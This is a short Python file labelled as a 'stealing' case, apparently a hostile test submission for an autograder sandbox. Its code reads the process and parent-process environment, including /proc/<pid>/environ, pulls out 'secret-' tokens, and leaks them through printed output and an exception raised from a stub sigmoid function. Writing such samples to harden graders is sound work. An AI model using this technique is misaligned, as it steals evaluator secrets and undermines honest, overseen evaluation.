# class: stealing
"""A secret of the grader's environment is put into the feedback"""

import os
import re

texts = [str(dict(os.environ)).encode()]
for pid in ("self", os.getppid()):
    try:
        with open(f"/proc/{pid}/environ", "rb") as file:
            texts.append(file.read())
    except OSError:
        pass
secrets = re.findall(rb"secret-[0-9a-f]{32}", b"".join(texts))
print(secrets)


def sigmoid(z):
    raise RuntimeError(f"look here: {secrets}")
